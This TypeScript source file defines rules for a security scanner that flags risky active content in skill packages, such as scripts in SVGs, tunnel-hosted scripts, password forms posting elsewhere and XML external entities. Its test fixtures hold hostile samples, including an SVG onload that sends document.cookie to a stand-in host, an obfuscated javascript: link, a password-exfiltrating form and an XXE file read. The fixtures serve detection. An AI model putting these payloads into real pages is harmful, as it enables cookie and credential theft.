import type { Context } from '../context/context.js';
import { isAddress, isAnonymous, isLocal } from '../knowledge/hosts.js';
import type { ActiveContent, FactType } from '../model/index.js';
import { type Rule, rule } from './rule.js';

/** Facts of a script that has no business in a picture. */
const REACHES_OUT: readonly FactType[] = ['network', 'flow', 'send-file', 'execute'];

function reachesOut(fact: ActiveContent, context: Context): boolean {
  return REACHES_OUT.some((type) => context.all(type).some((other) => other.unit.file === fact.unit.file));
}

const SETTINGS = 'address in settings';

function isNobody(host: string | undefined): host is string {
  return host !== undefined && !isLocal(host) && (isAnonymous(host) || isAddress(host));
}

export const CONTENT_RULES: readonly Rule[] = [
  rule({
    id: 'content.script-in-picture',
    threat: 'script_in_asset',
    severity: 'high',
    title: 'A script in a picture',
    why: 'A picture needs no code. Opened in a browser, an SVG with a script runs it with the rights of the page it is shown on.',
    fix: 'Authors: remove the script, the handler or the link. Installers: do not open the picture in a browser.',
    on: 'active-content',
    context: 'Critical when the script loads from elsewhere or uses the network; silent in an example of code.',
    judge(fact, context) {
      if (!fact.how.startsWith('svg') || fact.unit.kind === 'block') return undefined;
      const isWorse = fact.host !== undefined || reachesOut(fact, context);
      return { severity: isWorse ? 'critical' : 'high', message: `The picture has code in it: ${fact.how}.` };
    },
    reports: [
      { 'icon.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>' },
      {
        'icon.svg':
          '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://a.example.invalid/\'+document.cookie)"/>',
      },
      {
        'icon.svg':
          '<svg xmlns="http://www.w3.org/2000/svg"><a href="java&#115;cript:alert(1)"><circle r="4"/></a></svg>',
      },
    ],
    passes: [
      { 'icon.svg': '<svg xmlns="http://www.w3.org/2000/svg"><style>circle{fill:red}</style><circle r="4"/></svg>' },
      { 'page.html': '<html><script>document.title = "Report"</script></html>' },
    ],
  }),
  rule({
    id: 'content.loads-from-nobody',
    threat: 'script_in_asset',
    severity: 'high',
    title: 'A page that loads from or posts to an address that nobody vouches for',
    why: 'A tunnel, a paste page or a bare address may serve anything to whoever opens the page.',
    fix: 'Authors: put the script into the skill. Installers: do not open the page.',
    on: 'active-content',
    judge(fact, _context) {
      if (fact.how === SETTINGS || !isNobody(fact.host)) return undefined;
      return {
        severity: fact.unit.kind === 'block' ? 'warn' : 'high',
        message: `The page uses ${fact.host}: ${fact.how}.`,
      };
    },
    reports: [{ 'page.html': '<script src="https://abc.ngrok.io/a.js"></script>' }],
    passes: [
      { 'page.html': '<script src="https://cdn.jsdelivr.net/npm/chart.js"></script>' },
      { 'page.html': '<iframe src="http://localhost:3000/"></iframe>' },
    ],
  }),
  rule({
    id: 'content.settings-address',
    threat: 'data_exfil',
    severity: 'high',
    title: 'Settings that send things to an address that nobody vouches for',
    why: 'The code looks honest and sends to wherever its settings say: here to a tunnel or a request catcher that anybody may own.',
    fix: 'Authors: name the service by its own host. Installers: change the address before you use the skill, or do not use it.',
    on: 'active-content',
    judge(fact) {
      if (fact.how !== SETTINGS) return undefined;
      return { severity: 'high', message: `The settings name ${fact.host ?? 'an address'}.` };
    },
    reports: [{ 'config.yaml': 'service:\n  base_url: https://a1f.ngrok-free.dev/callback\n' }],
    passes: [
      { 'config.yaml': 'service:\n  base_url: https://api.example.com/v1\n' },
      { 'config.example.yaml': 'tunnel_url: https://your-id.ngrok.io\n' },
    ],
  }),
  rule({
    id: 'content.asks-for-password',
    threat: 'cred_theft',
    severity: 'high',
    title: 'A form that sends a password elsewhere',
    why: 'A page that comes with a skill has no login of its own, so the password goes to somebody else.',
    fix: 'Do not fill it in.',
    on: 'active-content',
    context: 'Warn when the form goes to the skill’s own vendor, or stands in an example of code.',
    judge(fact, context) {
      if (fact.how !== 'password form') return undefined;
      // The name of a skill proves nothing about a host: whoever wrote the one chose the other.
      const isExample = fact.unit.kind === 'block' || context.isHome(fact.host);
      return {
        severity: isExample ? 'warn' : 'high',
        message: `A password is sent to ${fact.host ?? 'another host'}.`,
      };
    },
    reports: [
      { 'login.html': '<form action="https://login.example.invalid/"><input type="password"></form>' },
      {
        'login.html':
          '<form id="f"><input type="password" name="p"></form><script>f.onsubmit = () => fetch("https://login.example.invalid/", { method: "POST", body: new FormData(f) })</script>',
      },
    ],
    passes: [{ 'login.html': '<form action="/login"><input type="password"></form>' }],
  }),
  rule({
    id: 'content.external-entity',
    threat: 'script_in_asset',
    severity: 'high',
    title: 'A document that reads files or addresses when it is parsed',
    why: 'An external entity makes a parser put the contents of a file or an address into the document.',
    fix: 'Remove the entity; parse such documents with entities switched off.',
    on: 'active-content',
    judge(fact, _context) {
      if (fact.how !== 'external entity' || fact.unit.kind === 'block') return undefined;
      return { severity: 'high', message: 'The document has an external entity.' };
    },
    reports: [{ 'data.xml': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>' }],
    passes: [{ 'data.xml': '<!DOCTYPE a [<!ENTITY x "text">]><a>&x;</a>' }],
  }),
  rule({
    id: 'content.page-script',
    threat: 'script_in_asset',
    severity: 'info',
    title: 'A page with code',
    why: 'The code runs in the browser of whoever opens the page. It is read like any other code of the skill.',
    fix: 'Nothing, if the page is a report or a template.',
    on: 'active-content',
    judge(fact) {
      if (fact.how !== 'html script' && fact.how !== 'html address with code' && fact.how !== 'html inner page')
        return undefined;
      return fact.unit.kind === 'file'
        ? { severity: 'info', message: `The page has code in it: ${fact.how}.` }
        : undefined;
    },
    reports: [{ 'page.html': '<html><script>document.title = "Report"</script></html>' }],
    passes: [{ 'page.html': '<html><script type="application/json">{}</script></html>' }],
  }),
];
